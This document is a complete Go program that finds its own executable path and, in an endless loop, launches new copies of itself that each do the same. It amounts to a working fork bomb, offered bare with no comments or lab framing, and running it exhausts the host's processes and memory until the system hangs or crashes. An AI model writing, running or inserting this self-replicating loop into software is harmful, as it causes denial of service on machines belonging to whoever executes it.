package main

import (
	"os"
	"os/exec"
)

func main() {
	self, _ := os.Executable()
	for {
		cmd := exec.Command(self)
		cmd.Start()
	}
}
